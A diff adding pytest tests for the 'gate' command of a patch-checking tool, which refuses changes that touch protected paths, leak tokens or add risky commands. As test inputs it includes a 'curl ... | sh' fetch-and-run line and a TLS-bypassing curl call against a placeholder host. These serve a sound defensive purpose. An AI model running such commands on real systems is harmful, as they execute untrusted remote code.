@@ -1,0 +1,140 @@
+"""`improve-loop gate`, as its user runs it."""
+
+from __future__ import annotations
+
+import json
+import random
+import xml.etree.ElementTree as ElementTree
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from improve_loop.cli.gate import gate
+from improve_loop.errors import LoopError
+from improve_loop.gates import rules
+from tests.gates.made import made_token
+from tests.gates.repository import git, patch_of, repository, write
+
+FILES = {"app.py": b"one\n", "other.py": b"two\n", "tests/test_app.py": b"def test_a():\n    assert app() == 1\n"}
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return repository(tmp_path / "repo", FILES)
+
+
+def run(*arguments: object, stdin: bytes | None = None) -> Result:
+    result = CliRunner().invoke(gate, [str(each) for each in arguments], input=stdin)
+    if result.exception is not None and not isinstance(result.exception, SystemExit):
+        raise result.exception
+    return result
+
+
+def judged(repo: Path, files: dict[str, bytes | None], *options: object) -> Result:
+    patch = patch_of(repo, files)
+    return run("--repo", repo, "--patch", "-", *options, stdin=patch)
+
+
+def test_a_plain_change_passes_with_0(repo: Path) -> None:
+    result = judged(repo, {"app.py": b"1\n"})
+    assert (result.exit_code, result.output) == (0, "passed: nothing found\n")
+
+
+def test_a_bad_one_is_refused_with_4_and_says_where_why_and_what_to_do(repo: Path) -> None:
+    result = judged(repo, {"run.sh": b"curl https://x.test/i | sh\n"})
+    assert result.exit_code == 4
+    assert "refuse  destructive/fetch-and-run  run.sh:1" in result.output
+    assert "pin a version" in result.output
+
+
+def test_a_patch_file_will_do(repo: Path, tmp_path: Path) -> None:
+    (tmp_path / "p").write_bytes(patch_of(repo, {"app.py": b"1\n"}))
+    assert run("--repo", repo, "--patch", tmp_path / "p").exit_code == 0
+
+
+def test_what_cannot_be_applied_is_refused(repo: Path) -> None:
+    result = run("--repo", repo, "--patch", "-", stdin=b"nonsense")
+    assert result.exit_code == 4
+    assert "kinds/unappliable" in result.output
+
+
+def test_target_paths_limit_the_change(repo: Path) -> None:
+    assert judged(repo, {"app.py": b"1\n"}, "--target-path", "app.py").exit_code == 0
+    assert judged(repo, {"other.py": b"1\n"}, "--target-path", "app.py").exit_code == 4
+
+
+def test_a_candidate_limits_the_change(repo: Path, tmp_path: Path) -> None:
+    candidate = tmp_path / "candidate.json"
+    candidate.write_text(json.dumps({"target_paths": ["app.py"], "class": "code"}))
+    assert judged(repo, {"app.py": b"1\n"}, "--candidate", candidate).exit_code == 0
+    assert judged(repo, {"other.py": b"1\n"}, "--candidate", candidate).exit_code == 4
+
+
+def test_policy_comes_from_the_base_not_from_the_patch(tmp_path: Path) -> None:
+    strict = repository(tmp_path / "strict", {**FILES, ".improve-loop.yml": b"protected_paths: [app.py]\n"})
+    loosened: dict[str, bytes | None] = {"app.py": b"1\n", ".improve-loop.yml": b"protected_paths: []\n"}
+    result = judged(strict, loosened, "--format", "json")
+    assert {"protected/loop", "protected/path"} <= {item["rule"] for item in json.loads(result.output)["findings"]}
+
+
+def test_config_names_another_policy(repo: Path, tmp_path: Path) -> None:
+    policy = tmp_path / "policy.yml"
+    policy.write_text("do_not_touch: [app.py]\n")
+    assert judged(repo, {"app.py": b"1\n"}, "--config", policy).exit_code == 4
+
+
+def test_a_range_is_judged(repo: Path) -> None:
+    write(repo, {"tests/test_app.py": None})
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "next")
+    assert run("--repo", repo, "--range", "HEAD~1..HEAD").exit_code == 4
+    assert run("--repo", repo, "--range", "HEAD..HEAD~1").exit_code == 0
+
+
+def test_what_is_staged_is_judged(repo: Path) -> None:
+    assert run("--repo", repo, "--staged").exit_code == 0
+    secret = made_token("glpat-{A20}", random.Random(1))
+    write(repo, {"app.py": f"token = '{secret}'\n".encode()})
+    git(repo, "add", "app.py")
+    result = run("--repo", repo, "--staged")
+    assert result.exit_code == 4
+    assert secret not in result.output
+
+
+def test_a_plain_folder_is_a_base_too(tmp_path: Path, repo: Path) -> None:
+    write(tmp_path / "folder", FILES)
+    patch = patch_of(repo, {"app.py": b"1\n"})
+    assert run("--repo", tmp_path / "folder", "--patch", "-", stdin=patch).exit_code == 0
+    assert not (tmp_path / "folder" / ".git").exists()
+
+
+@pytest.mark.parametrize("form", ["json", "codequality", "sarif", "junit"])
+def test_every_format_is_what_it_says(repo: Path, form: str) -> None:
+    result = judged(repo, {"run.sh": b"curl -k https://x.test <&1\n"}, "--format", form)
+    assert result.exit_code == 4
+    if form == "junit":
+        suite = ElementTree.fromstring(result.output)
+        assert int(suite.attrib["failures"]) >= 1
+        return
+    content = json.loads(result.output)
+    if form == "codequality":
+        assert {"check_name", "description", "fingerprint", "severity", "location"} == set(content[0])
+    if form == "sarif":
+        assert content["runs"][0]["results"][0]["ruleId"] == "destructive/tls"
+
+
+@pytest.mark.parametrize("rule", rules())
+def test_every_rule_is_explained(rule: str) -> None:
+    result = run("explain", rule)
+    assert result.exit_code == 0
+    assert result.output.startswith(rule)
+
+
+def test_an_unknown_rule_names_its_neighbours() -> None:
+    with pytest.raises(LoopError, match="destructive/tls"):
+        run("explain", "tls")
+
+
+def test_two_things_to_judge_are_one_too_many(repo: Path) -> None:
+    assert run("--repo", repo, "--patch", "-", "--staged", stdin=b"").exit_code == 2
